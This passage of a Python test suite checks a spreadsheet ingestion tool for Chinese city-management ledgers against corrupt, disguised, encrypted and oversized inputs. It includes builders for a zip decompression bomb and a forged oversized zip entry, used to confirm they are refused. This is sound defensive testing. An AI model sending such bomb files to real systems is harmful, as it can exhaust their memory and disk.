"""A corpus of bad inputs, built by the tests (no binary blobs): for each, the run finishes, every
other file goes through, the bad one is named (file, sheet, row, column where they apply) with a
reason in Chinese, the row accounting holds, and nothing raises.

"""
from __future__ import annotations

import csv
import datetime as dt
import os
import re
import shutil
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import write_xlsx

from analysis.ingest import read as reader
from analysis.ingest.layout import ROW_KINDS
from analysis.ingest.read import ReadError, read_sheets
from analysis.ingest.read import calamine_grid as calamine_reader

ROW_KIND_ZEROS = dict.fromkeys(ROW_KINDS, 0)  # the kinds of row a test expects none of

D = dt.date
TODAY = dt.date.today()

SV_HEADER = ["序号", "日期", "所属街道", "类型", "数量（处）", "处置方式", "路段"]
GAS_HEADER = ["序号", "排查日期", "所属街道", "单位名称", "单位类型", "发现隐患", "已整改", "查扣钢瓶", "黑窝点"]
DUST_HEADER = ["序号", "督导日期", "所属街道", "点位名称", "存在问题", "问题来源", "整改情况"]
DEMO_HEADER = ["序号", "拆除日期", "所属街道", "地址", "拆除面积", "结构", "拆除方式"]


# ---------------------------------------------------------------- builders of bad (and good) files

def cfb(streams: dict) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding up to three streams.
    Each stream is padded to 4096 bytes or more, so that no mini stream is needed."""
    free, end, fat_sect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    items = [(n, d + b"\0" * max(0, 4096 - len(d))) for n, d in streams.items()]
    assert 1 <= len(items) <= 3
    fat, data, starts = [fat_sect, end], b"", []  # sector 0: the FAT, sector 1: the directory
    for _, d in items:
        d += b"\0" * (-len(d) % 512)
        first, n = len(fat), len(d) // 512
        starts.append(first)
        fat += [first + i + 1 for i in range(n - 1)] + [end]
        data += d
    assert len(fat) <= 128
    fat += [free] * (128 - len(fat))

    def entry(name, typ, right, child, start, size):
        raw = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (raw.ljust(64, b"\0") + struct.pack("<HBB3I", len(raw), typ, 1 if name else 0, free, right, child)
                + b"\0" * 36 + struct.pack("<IQ", start, size))

    directory = entry("Root Entry", 5, free, 1, end, 0)
    for k, (name, d) in enumerate(items):  # the streams hang off the root as a chain of right siblings
        directory += entry(name, 2, k + 2 if k + 1 < len(items) else free, free, starts[k], len(d))
    directory += entry("", 0, free, free, 0, 0) * (3 - len(items))
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<10I", 0, 1, 1, 0, 4096, end, 0, end, 0, 0) + struct.pack("<108I", *[free] * 108))
    assert len(header) == 512 and len(directory) == 512
    return header + struct.pack("<128I", *fat) + directory + data


def encrypted_xlsx(path: Path) -> Path:
    """What Excel and WPS write for an .xlsx with an open password: an OLE2 file with these two streams."""
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + b'<?xml version="1.0"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(cfb({"EncryptionInfo": info, "EncryptedPackage": os.urandom(6000)}))
    return path


def encrypted_xls(path: Path) -> Path:
    """An Excel 97-2003 workbook whose globals start BOF, FILEPASS (how an .xls with a password begins)."""
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook()
    sh = book.add_sheet("S")
    for c, h in enumerate(["拆除日期", "街道", "拆除面积"]):
        sh.write(0, c, h)
    stream = book.get_biff_data()
    _, length = struct.unpack_from("<HH", stream)
    filepass = struct.pack("<HHHHH", 0x002F, 6, 0, 0x1234, 0x5678)  # XOR obfuscation, key, verifier
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(cfb({"Workbook": stream[: 4 + length] + filepass + stream[4 + length:]}))
    return path


def truncated_xlsx(path: Path) -> Path:
    write_xlsx(path, {"S": [GAS_HEADER, *[[i, D(2023, 3, i), "焦南", f"店{i}", "餐饮", 1, 1, 0, "否"] for i in range(1, 20)]]})
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def zip_bomb(path: Path, mib: int = 160) -> Path:
    """An .xlsx whose sheet1.xml is `mib` MiB of spaces (legal XML white space), streamed into the zip:
    the file is a few hundred KB and is made without ever holding the whole part in memory."""
    base = write_xlsx(path.with_suffix(".base.xlsx"), {"S": [DEMO_HEADER]})
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info.filename, data)
                continue
            with out.open(info.filename, "w", force_zip64=True) as f:
                cut = data.rindex(b"</worksheet>")
                f.write(data[:cut])
                chunk = b" " * (1 << 20)
                for _ in range(mib):
                    f.write(chunk)
                f.write(data[cut:])
    base.unlink()
    return path


def declared_size_bomb(path: Path) -> Path:
    """A small .xlsx whose central directory declares a 2 GB sheet (the limit on the total)."""
    write_xlsx(path, {"S": [DEMO_HEADER]})
    data = bytearray(path.read_bytes())
    eocd = data.rindex(b"PK\x05\x06")
    count, _, offset = struct.unpack_from("<HII", data, eocd + 10)
    pos = offset
    for _ in range(count):
        assert data[pos:pos + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        if data[pos + 46: pos + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", data, pos + 24, 2_000_000_000)
        pos += 46 + name_len + extra_len + comment_len
    path.write_bytes(bytes(data))
    return path


def docx_named_xlsx(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return path


def write_bytes(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def html_xls(path: Path, rows_html: str, encoding: str = "gbk", meta: bool = True) -> Path:
    """An 'xls' as online systems export it: an HTML page with one table."""
    head = f'<meta http-equiv="Content-Type" content="text/html; charset={encoding}">' if meta else ""
    page = (f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head>{head}<style>td{{mso-number-format:"\\@";}}</style>'
            f"<script>document.write('<table><tr><td>不是数据</td></tr></table>')</script></head>"
            f"<body><table border=1>{rows_html}</table></body></html>")
    return write_bytes(path, page.encode(encoding))


SV_HTML_ROWS = (
    "<tr><td colspan=7>2023年3月三种经营整治台账（系统导出）</td></tr>"
    "<tr><th>序号</th><th>日期</th><th>所属街道</th><th>类型</th><th>数量<br>（处）</th><th>处置方式</th><th>路段</th></tr>"
    "<tr><td>1</td><td rowspan=2>2023-03-20</td><td>焦南</td><td>游商</td><td>6</td><td>劝离</td><td>解放路&nbsp;东段</td></tr>"
    "<tr><td>2</td><td>民生街道</td><td>占道</td><td>7</td><td>暂扣</td><td>人民路</td></tr>"
)


def with_cached_values(path: Path, values: dict) -> Path:
    """Give formula cells the cached result Excel or WPS stores on saving (openpyxl writes none)."""
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    for ref, value in values.items():
        # openpyxl writes the empty value as <v/>, or as <v></v> when lxml is installed (python-docx brings it)
        xml, n = re.subn(rf'(<c r="{ref}"[^>]*>)<f>(.*?)</f>(?:<v\s*/>|<v>\s*</v>)', rf"\g<1><f>\g<2></f><v>{value}</v>",
                         xml)
        assert n == 1, ref
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def text_cells(path: Path, sheet: str, rows: list, texts: dict) -> Path:
    """A workbook where the cells in `texts` ("C3": "=…") are text, as typed after a leading apostrophe."""
    import openpyxl

    path.parent.mkdir(parents=True, exist_ok=True)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    for row in rows:
        ws.append(row)
    for ref, text in texts.items():
        ws[ref].value = text
        ws[ref].data_type = "s"
    wb.save(path)
    return path


# ---------------------------------------------------------------- checks shared by the tests

def assert_accounting(run) -> None:
    """Per sheet: the row kinds sum to the sheet's rows, data rows = kept + rejected, and every rejected row
    has its lines in rejects.csv; per ledger: the kept rows are the table's rows."""
    rejects = run.rejects
    for f in run.manifest["files"]:
        for s in f.get("sheets", []):
            if "row_kinds" in s:
                assert sum(s["row_kinds"].values()) == s["rows"], (f["file"], s["sheet"])
            if s["status"] == "ok":
                assert s["kept"] + s["rejected"] == s["row_kinds"]["data"], (f["file"], s["sheet"])
                mine = rejects[(rejects["file"] == f["file"]) & (rejects["sheet"] == s["sheet"])]
                assert mine["row"].nunique() == s["rejected"], (f["file"], s["sheet"])
    for ledger, lsum in run.manifest["ledgers"].items():
        assert len(run.table(ledger)) == lsum["rows_kept"], ledger


def line_for(run_text: str, *parts: str) -> str:
    """The first summary line that names all `parts` (the test fails when there is none)."""
    lines = [line for line in run_text.splitlines() if all(p in line for p in parts)]
    assert lines, f"no line with {parts} in:\n{run_text}"
    return lines[0]


def rejects_of(run, file: str):
    return run.rejects[run.rejects["file"] == file]


def good_gas(raw: Path) -> Path:
    return write_xlsx(raw / "gas_safety" / "好.xlsx", {"S": [
        ["2023年燃气安全隐患排查整治台账"], GAS_HEADER,
        [1, D(2023, 3, 5), "焦南", "老王烧烤", "餐饮", 2, 1, 3, "否"],
        [2, D(2023, 3, 6), "民生", "幸福超市", "超市", 1, 1, 0, "否"],
    ]})


def assert_good_gas_read(run) -> None:
    t = run.table("gas_safety")
    good = t[t["source_file"] == "gas_safety/好.xlsx"]
    assert good["unit_name"].tolist() == ["老王烧烤", "幸福超市"] and good["hazards_found"].sum() == 3


# ---------------------------------------------------------------- files that cannot be read at all

FILE_LEVEL = {
    "zero_bytes": (lambda p: write_bytes(p, b""), "空.xlsx", "文件是空的（0 字节）"),
    "random_bytes": (lambda p: write_bytes(p, bytes(range(256)) * 20), "乱码.xlsx", "文件已损坏或不是 Excel 文件"),
    "cut_half_way": (truncated_xlsx, "下载一半.xlsx", "文件不完整：只有"),
    "password_xlsx": (encrypted_xlsx, "加密.xlsx", "工作簿已加密（设有打开密码"),
    "password_xls": (encrypted_xls, "加密97.xls", "工作簿已加密（设有打开密码"),
    "html_page_without_table": (lambda p: write_bytes(p, "<html><body>登录已过期，请重新登录</body></html>".encode()),
                                "系统导出失败.xls", "内容却是网页（HTML），其中没有表格"),
    "word_named_xlsx": (docx_named_xlsx, "通知.xlsx", "文件内容是 Word 文档"),
    "pdf_named_xlsx": (lambda p: write_bytes(p, b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), "扫描件.xlsx", "内容却是PDF 文档"),
    "note_named_xls": (lambda p: write_bytes(p, "关于报送燃气安全排查台账的通知。请各街道于月底前报送。\n".encode("gbk")), "通知.xls",
                       "内容却是纯文本"),
    "declared_2gb": (declared_size_bomb, "巨大.xlsx", "超过上限 1.0 GB，疑似“压缩炸弹”"),
    "xml_spreadsheet_2003": (lambda p: write_bytes(p, (
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook '
        b'xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"/></Workbook>')),
        "系统导出2003.xls", "内容却是“XML 电子表格 2003”格式"),
}


@pytest.mark.parametrize("kind", list(FILE_LEVEL))
def test_a_file_that_cannot_be_read_is_named_and_the_others_go_through(raw, run_clean, kind):
    build, name, reason = FILE_LEVEL[kind]
    good_gas(raw)
    build(raw / "gas_safety" / name)
    run = run_clean()
    line = line_for(run.text, f"gas_safety/{name}：")
    assert line.startswith("  [错误]") and reason in line
    assert_good_gas_read(run)
    assert run.exit_code == 1
    assert_accounting(run)
    record = next(f for f in run.manifest["files"] if f["file"] == f"gas_safety/{name}")
    assert record["status"] == "failed" and reason in record["reason"]
    assert not re.search(r"[A-Za-z]*(Error|Exception)", record["reason"])  # a sentence, not a Python name


@pytest.fixture(scope="module")
def bomb_bytes(tmp_path_factory) -> bytes:
    return zip_bomb(tmp_path_factory.mktemp("bomb") / "bomb.xlsx").read_bytes()


def test_a_zip_bomb_is_refused_before_it_is_unpacked_in_bounded_time_and_memory(tmp_path, bomb_bytes, monkeypatch):
    path = write_bytes(tmp_path / "炸弹.xlsx", bomb_bytes)
    assert path.stat().st_size < 2 << 20  # small on disk, 160 MiB unpacked

    class NoCalamine:  # proof that the refusal comes before any reader unpacks the file
        def __getattr__(self, name):
            raise AssertionError("calamine was asked to open a zip bomb")

    monkeypatch.setattr(calamine_reader, "calamine", NoCalamine())
    tracemalloc.start()
    start = time.perf_counter()
    with pytest.raises(ReadError, match="压缩炸弹") as info:
        read_sheets(path)
    elapsed = time.perf_counter() - start
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 0.5 and peak < 5 << 20
    assert "xl/worksheets/sheet1.xml" in str(info.value) and "160.0 MB" in str(info.value)


def test_a_zip_bomb_in_a_ledger_folder_is_one_error_line(raw, run_clean, bomb_bytes):
    good_gas(raw)
    write_bytes(raw / "gas_safety" / "炸弹.xlsx", bomb_bytes)
    start = time.perf_counter()
    run = run_clean()
    assert time.perf_counter() - start < 5
    assert "压缩炸弹" in line_for(run.text, "[错误] gas_safety/炸弹.xlsx：")
    assert_good_gas_read(run)
    assert run.exit_code == 1


def test_a_workbook_with_only_a_title_is_named(raw, run_clean):
    good_gas(raw)
    write_xlsx(raw / "gas_safety" / "只有标题.xlsx", {"封面": [["2023年燃气安全隐患排查整治台账"], [], ["解放区城市管理局"]]},
               {"封面": ["A1:F1"]})
    run = run_clean()
    assert "文件中没有可识别的台账工作表" in line_for(run.text, "[错误] gas_safety/只有标题.xlsx：")
    assert "前 15 行中找不到本台账的表头" in line_for(run.text, "[跳过] gas_safety/只有标题.xlsx / 封面：")
    assert run.sheet("gas_safety/只有标题.xlsx", "封面")["row_kinds"] == ROW_KIND_ZEROS | {
        "title": 2, "header": 0, "data": 0, "total": 0, "footer": 0, "blank": 1}
    assert_good_gas_read(run)
    assert run.exit_code == 1
    assert_accounting(run)


def test_a_sheet_with_only_a_header_is_valid_with_zero_rows(raw, run_clean):
    good_gas(raw)
    write_xlsx(raw / "gas_safety" / "只有表头.xlsx", {"4月": [["2023年4月燃气台账"], GAS_HEADER, ["合计", None, None, None, None, 0]]})
    run = run_clean()
    s = run.sheet("gas_safety/只有表头.xlsx", "4月")
    assert (s["status"], s["kept"], s["rejected"]) == ("ok", 0, 0)
    assert s["row_kinds"] == ROW_KIND_ZEROS | {"title": 1, "header": 1, "data": 0, "total": 1, "footer": 0, "blank": 0}
    assert "只有表头" not in run.text
    assert run.exit_code == 0
    assert_good_gas_read(run)
    assert_accounting(run)


# ---------------------------------------------------------------- files that are not what their name says

def test_an_html_table_saved_as_xls_is_read(raw, run_clean):
    html_xls(raw / "street_vending" / "系统导出.xls", SV_HTML_ROWS, encoding="gbk")
    html_xls(raw / "street_vending" / "系统导出UTF8.xls", SV_HTML_ROWS.replace("2023-03-20", "2023-03-21"),
             encoding="utf-8", meta=False)
    run = run_clean()
    t = run.table("street_vending").sort_values(["source_file", "source_row"])
    gbk = t[t["source_file"] == "street_vending/系统导出.xls"]
    assert gbk["places"].tolist() == [6, 7] and gbk["source_row"].tolist() == [3, 4]
    assert gbk["date"].dt.strftime("%Y-%m-%d").tolist() == ["2023-03-20", "2023-03-20"]  # rowspan fills down
    assert gbk["subdistrict"].tolist() == ["焦南街道", "民生街道"]
    assert gbk["location"].tolist() == ["解放路 东段", "人民路"]
    assert set(gbk["source_sheet"]) == {"系统导出"}
    assert t["places"].sum() == 26
    s = run.sheet("street_vending/系统导出.xls", "系统导出")
    assert s["header_row"] == 2 and s["year_hint"] == 2023
    assert run.exit_code == 0 and run.rejects.empty
    assert_accounting(run)


@pytest.mark.parametrize("really, named", [("xls", "xlsx"), ("xlsx", "xls"), ("xlsx", "csv")])
def test_a_workbook_with_the_wrong_extension_is_read_as_what_it_is(raw, run_clean, tmp_path, really, named):
    """WPS and chat apps often leave an .xls named .xlsx, or the reverse."""
    rows = [GAS_HEADER, [1, "2023-03-05", "焦南", "老王烧烤", "餐饮", 2, 1, 0, "否"]]
    if really == "xls":
        xlwt = pytest.importorskip("xlwt")
        book = xlwt.Workbook()
        sh = book.add_sheet("S")
        for r, row in enumerate(rows):
            for c, v in enumerate(row):
                sh.write(r, c, v)
        book.save(str(tmp_path / "real.xls"))
        real = tmp_path / "real.xls"
    else:
        real = write_xlsx(tmp_path / "real.xlsx", {"S": rows})
    (raw / "gas_safety").mkdir()
    shutil.copy(real, raw / "gas_safety" / f"台账.{named}")
    run = run_clean()
    assert run.table("gas_safety")["hazards_found"].tolist() == [2]
    assert run.exit_code == 0


def test_an_ole_file_cut_off_is_named_incomplete(raw, run_clean):
    path = encrypted_xls(raw / "demolitions" / "截断.xls")
    path.write_bytes(path.read_bytes()[:3000])
    run = run_clean()
    assert "文件不完整" in line_for(run.text, "[错误] demolitions/截断.xls：")


# ---------------------------------------------------------------- cells that are wrong: rejected and named

def test_formula_error_values_in_number_cells_are_rejected_not_read_as_blank(raw, run_clean):
    """python-calamine reads #REF! as an empty cell; a blank count would silently become the default
    (0, or 1 place); read.py puts the error text back so that the row is rejected with its reason."""
    write_xlsx(raw / "street_vending" / "公式错误.xlsx", {"3月": [
        ["2023年3月三种经营整治台账"], SV_HEADER,
        [1, D(2023, 3, 5), "焦南", "游商", "#N/A", "劝离", "解放路"],
        [2, D(2023, 3, 6), "焦南", "游商", 4, "劝离", "解放路"],
    ]})
    write_xlsx(raw / "gas_safety" / "公式错误.xlsx", {"3月": [
        GAS_HEADER,
        [1, D(2023, 3, 5), "焦南", "甲店", "餐饮", "#REF!", 0, 0, "否"],
        [2, D(2023, 3, 5), "焦南", "乙店", "餐饮", 1, 1, "#DIV/0!", "否"],
        [3, D(2023, 3, 5), "焦南", "丙店", "餐饮", 1, 1, 2, "否"],
    ]})
    run = run_clean()
    assert run.table("street_vending")["places"].tolist() == [4]
    assert run.table("gas_safety")["unit_name"].tolist() == ["丙店"]
    sv = rejects_of(run, "street_vending/公式错误.xlsx")
    assert sv[["sheet", "row", "column", "value", "reason"]].values.tolist() == [
        ["3月", "3", "数量（处）（E列）", "#N/A", "数量（处）：单元格为公式错误值“#N/A”"]]
    gas = rejects_of(run, "gas_safety/公式错误.xlsx")
    assert gas[["row", "column", "reason"]].values.tolist() == [
        ["2", "发现隐患（F列）", "发现隐患（处）：单元格为公式错误值“#REF!”"],
        ["3", "查扣钢瓶（H列）", "查扣不合格钢瓶（个）：单元格为公式错误值“#DIV/0!”"]]
    assert run.exit_code == 0
    assert_accounting(run)


def test_formula_error_values_in_an_xls_workbook_are_rejected_too(raw, run_clean):
    """The same for Excel 97-2003 files: a BOOLERR cell, and a formula whose cached result is an error."""
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook()
    sh = book.add_sheet("3月")
    rows = [SV_HEADER, [1, "2023-03-05", "焦南", "游商", None, "", ""], [2, "2023-03-06", "焦南", "游商", None, "", ""],
            [3, "2023-03-07", "焦南", "游商", 4, "", ""]]
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if v is not None:
                sh.write(r, c, v)
    sh.row(1).set_cell_error(4, 0x2A)  # #N/A
    sh.write(2, 4, xlwt.Formula("1/0"))
    stream = bytearray(book.get_biff_data())
    pos = 0
    while pos + 4 <= len(stream):  # give the formula the cached result Excel would store: the error #DIV/0!
        typ, length = struct.unpack_from("<HH", stream, pos)
        if typ == 0x0006:
            stream[pos + 4 + 6: pos + 4 + 14] = bytes([2, 0, 0x07, 0, 0, 0, 0xFF, 0xFF])
        pos += 4 + length
    write_bytes(raw / "street_vending" / "旧版.xls", cfb({"Workbook": bytes(stream)}))
    run = run_clean()
    assert run.table("street_vending")["places"].tolist() == [4]
    r = rejects_of(run, "street_vending/旧版.xls")
    assert r[["row", "value", "reason"]].values.tolist() == [
        ["2", "#N/A", "数量（处）：单元格为公式错误值“#N/A”"], ["3", "#DIV/0!", "数量（处）：单元格为公式错误值“#DIV/0!”"]]
    assert_accounting(run)


def test_formula_error_values_in_text_and_category_cells_are_rejected(raw, run_clean):
    write_xlsx(raw / "gas_safety" / "查找失败.xlsx", {"3月": [
        GAS_HEADER,
        [1, D(2023, 3, 5), "焦南", "#N/A", "餐饮", 1, 1, 0, "否"],
        [2, D(2023, 3, 5), "焦南", "乙店", "#REF!", 1, 1, 0, "否"],
        [3, D(2023, 3, 5), "焦南", "丙店", "餐饮", 1, 1, 0, "否"],
    ]})
    run = run_clean()
    assert run.table("gas_safety")["unit_name"].tolist() == ["丙店"]
    reasons = rejects_of(run, "gas_safety/查找失败.xlsx")["reason"].tolist()
    assert len(reasons) == 2 and all("单元格为公式错误值" in r for r in reasons)


def test_formulas_with_cached_values_are_read_and_formulas_without_a_result_are_rejected(raw, run_clean):
    path = write_xlsx(raw / "street_vending" / "公式.xlsx", {"Sheet1": [
        ["2023年3月三种经营整治台账"], SV_HEADER,
        [1, D(2023, 3, 5), "焦南", "游商", "=1+2", "劝离", "解放路"],
        [2, D(2023, 3, 6), "焦南", "游商", "=E3*2", "劝离", "解放路"],
        [3, D(2023, 3, 7), "焦南", "游商", "=E4-5", "劝离", "解放路"],
        ["合计", None, None, None, "=SUM(E3:E5)"],
    ]})
    with_cached_values(path, {"E3": 3, "E4": 6, "E6": 9})  # E5 never calculated: a program wrote the file
    run = run_clean()
    t = run.table("street_vending")
    assert t["places"].tolist() == [3, 6] and t["source_row"].tolist() == [3, 4]
    r = rejects_of(run, "street_vending/公式.xlsx")
    assert r[["row", "column", "value"]].values.tolist() == [["5", "数量（处）（E列）", reader.UNCALCULATED]]
    assert "公式" in r["reason"].iloc[0]
    assert "合计不符" not in run.text  # the cached 合计 (9) matches the kept rows
    assert_accounting(run)


def test_numbers_far_out_of_range_and_negative_counts_are_rejected(raw, run_clean):
    write_xlsx(raw / "demolitions" / "面积.xlsx", {"S": [
        DEMO_HEADER,
        [1, D(2023, 3, 5), "焦南", "解放路1号", 1_000_000_000, "砖混", "自拆"],
        [2, D(2023, 3, 6), "焦南", "解放路2号", "120㎡", "砖混", "自拆"],
    ]})
    write_xlsx(raw / "gas_safety" / "钢瓶.xlsx", {"S": [
        GAS_HEADER,
        [1, D(2023, 3, 5), "焦南", "甲店", "餐饮", 0, 0, 1_000_000, "是"],
        [2, D(2023, 3, 5), "焦南", "乙店", "餐饮", -2, 0, 0, "否"],
        [3, D(2023, 3, 5), "焦南", "丙店", "餐饮", 1, 1, 5, "是"],
    ]})
    write_xlsx(raw / "street_vending" / "负数.xlsx", {"S": [
        SV_HEADER, [1, D(2023, 3, 5), "焦南", "游商", -3, "", ""], [2, D(2023, 3, 5), "焦南", "游商", 2, "", ""]]})
    run = run_clean()
    assert run.table("demolitions")["area_m2"].tolist() == [120.0]
    assert run.table("gas_safety")["cylinders_seized"].tolist() == [5]
    assert run.table("street_vending")["places"].tolist() == [2]
    demo = rejects_of(run, "demolitions/面积.xlsx")
    assert demo[["row", "column", "reason"]].values.tolist() == [
        ["2", "拆除面积（E列）", "拆除面积（平方米）为1000000000，超过合理上限20000（上限及理由见台账规格文件）"]]
    gas = rejects_of(run, "gas_safety/钢瓶.xlsx")
    assert gas[["row", "reason"]].values.tolist() == [
        ["2", "查扣不合格钢瓶（个）为1000000，超过合理上限500（上限及理由见台账规格文件）"],
        ["3", "发现隐患（处）不能小于0"]]
    sv = rejects_of(run, "street_vending/负数.xlsx")
    assert sv["reason"].tolist() == ["数量（处）不能小于1"] and sv["value"].str.lstrip("'").tolist() == ["-3"]
    assert run.exit_code == 0
    assert_accounting(run)


def test_dates_in_the_future_before_2000_or_against_the_title_year_are_rejected(raw, run_clean):
    future = TODAY + dt.timedelta(days=40)
    write_xlsx(raw / "demolitions" / "日期.xlsx", {"S": [
        DEMO_HEADER,
        [1, future, "焦南", "甲", 10, "", ""],
        [2, D(1999, 12, 31), "焦南", "乙", 10, "", ""],
        [3, "2203-03-05", "焦南", "丙", 10, "", ""],
        [4, D(2023, 3, 5), "焦南", "丁", 10, "", ""],
    ]})
    write_xlsx(raw / "street_vending" / "年份.xlsx", {"3月": [
        ["2023年3月三种经营整治台账"], SV_HEADER,
        [1, D(2022, 3, 5), "焦南", "游商", 1, "", ""],
        [2, "3月6日", "焦南", "游商", 2, "", ""],
    ]})
    run = run_clean()
    assert run.table("demolitions")["address"].tolist() == ["丁"]
    demo = rejects_of(run, "demolitions/日期.xlsx")
    assert demo[["row", "column", "reason"]].values.tolist() == [
        ["2", "拆除日期（B列）", "日期在今天之后，可能写错了年份"],
        ["3", "拆除日期（B列）", "日期早于2000年，可能写错了年份"],
        ["4", "拆除日期（B列）", "日期在今天之后，可能写错了年份"]]
    sv = rejects_of(run, "street_vending/年份.xlsx")
    assert sv[["row", "reason"]].values.tolist() == [["3", "日期年份与表格标题中的“2023年”不符"]]
    assert run.table("street_vending")["date"].dt.strftime("%Y-%m-%d").tolist() == ["2023-03-06"]
    assert_accounting(run)


def test_every_date_of_a_sheet_unreadable_rejects_every_row_with_its_cell(raw, run_clean):
    write_xlsx(raw / "dust_control" / "日期全错.xlsx", {"5月": [
        DUST_HEADER,
        [1, "五月五日", "焦南", "一号工地", "无", "", ""],
        [2, "见附件", "焦南", "二号工地", "裸土", "", "是"],
        [3, "2023-02-30", "焦南", "三号工地", "无", "", ""],
    ]})
    run = run_clean()
    s = run.sheet("dust_control/日期全错.xlsx", "5月")
    assert (s["kept"], s["rejected"]) == (0, 3)
    r = rejects_of(run, "dust_control/日期全错.xlsx")
    assert r[["row", "column", "value", "reason"]].values.tolist() == [
        ["2", "督导日期（B列）", "五月五日", "日期无法识别"],
        ["3", "督导日期（B列）", "见附件", "日期无法识别"],
        ["4", "督导日期（B列）", "2023-02-30", "日期无法识别"]]
    assert len(run.table("dust_control")) == 0
    assert_accounting(run)


def test_a_column_whose_type_changes_half_way_is_read_cell_by_cell(raw, run_clean):
    write_xlsx(raw / "gas_safety" / "类型变化.xlsx", {"6月": [
        GAS_HEADER,
        [1, D(2023, 6, 1), "民主", "A店", "餐饮", 1, 1, 0, "否"],
        [2, "2023.6.2", "民主", "B店", "餐饮", "2处", "1处", 0, "否"],
        [3, "2023年6月3日", "民主", "C店", "餐饮", "约3", 0, "2个", "否"],
        [4, dt.datetime(2023, 6, 4, 9, 30), "民主", "D店", "餐饮", 1.0, 0, 0, "否"],
        [5, D(2023, 6, 5), "民主", "E店", "餐饮", "见附件", 0, 0, "否"],
    ]})
    run = run_clean()
    t = run.table("gas_safety")
    assert t["date"].dt.day.tolist() == [1, 2, 3, 4]
    assert t["hazards_found"].tolist() == [1, 2, 3, 1] and t["cylinders_seized"].sum() == 2
    r = rejects_of(run, "gas_safety/类型变化.xlsx")
    assert r[["row", "column", "value", "reason"]].values.tolist() == [
        ["6", "发现隐患（F列）", "见附件", "发现隐患（处）：数值无法识别"]]
    assert_accounting(run)


def test_a_data_row_merged_across_columns_is_rejected_and_named(raw, run_clean):
    rows = [
        SV_HEADER,
        [1, D(2023, 3, 5), "焦南", "游商", 2, "劝离", "解放路"],
        ["3月6日至3月8日因雨暂停巡查"] + [None] * 6,
        [3, D(2023, 3, 9), "焦南", "占道", 3, "劝离", "解放路"],
    ]
    write_xlsx(raw / "street_vending" / "合并行.xlsx", {"3月": rows}, {"3月": ["A3:G3"]})
    run = run_clean()
    assert run.table("street_vending")["places"].tolist() == [2, 3]
    r = rejects_of(run, "street_vending/合并行.xlsx")
    assert set(r["row"]) == {"3"}
    assert r["column"].iloc[0] == "日期（B列）" and r["reason"].iloc[0].startswith("日期")
    s = run.sheet("street_vending/合并行.xlsx", "3月")
    assert (s["row_kinds"]["data"], s["kept"], s["rejected"]) == (3, 2, 1)
    assert_accounting(run)


def test_unsupported_file_types_in_a_ledger_folder_are_skipped_and_named(raw, run_clean):
    good_gas(raw)
    for name, data in (("说明.docx", b"PK\x03\x04"), ("通知.pdf", b"%PDF-1.4"), ("现场照片.jpg", b"\xff\xd8\xff\xe0")):
        write_bytes(raw / "gas_safety" / name, data)
    run = run_clean()
    for name, suffix in (("说明.docx", ".docx"), ("通知.pdf", ".pdf"), ("现场照片.jpg", ".jpg")):
        assert f"不支持的文件类型“{suffix}”" in line_for(run.text, f"[跳过] gas_safety/{name}：")
    assert_good_gas_read(run)
    assert run.exit_code == 0


def test_the_same_ledger_twice_under_two_names_and_a_folder_sent_twice_count_once(raw, run_clean):
    good = good_gas(raw)
    shutil.copy(good, raw / "gas_safety" / "好(1).xlsx")
    shutil.copytree(raw / "gas_safety", raw / "gas_safety" / "再次提交")
    run = run_clean()
    assert run.table("gas_safety")["hazards_found"].sum() == 3
    copies = {"gas_safety/好.xlsx", "gas_safety/好(1).xlsx", "gas_safety/再次提交/好.xlsx", "gas_safety/再次提交/好(1).xlsx"}
    dups = {f["file"]: f["duplicate_of"] for f in run.manifest["files"] if f["status"] == "duplicate"}
    assert len(dups) == 3 and set(dups) | set(dups.values()) == copies and len(set(dups.values())) == 1
    for name, first in dups.items():
        assert f"与“{first}”内容完全相同，只计一次" in line_for(run.text, f"[提示] {name}：")
    assert run.exit_code == 0


def test_the_same_ledger_saved_again_under_another_name_is_named_and_counted_once(raw, run_clean):
    good_gas(raw)
    rows = [["2023年燃气安全隐患排查整治台账"], GAS_HEADER,
            [1, D(2023, 3, 5), "焦南", "老王烧烤", "餐饮", 2, 1, 3, "否"],
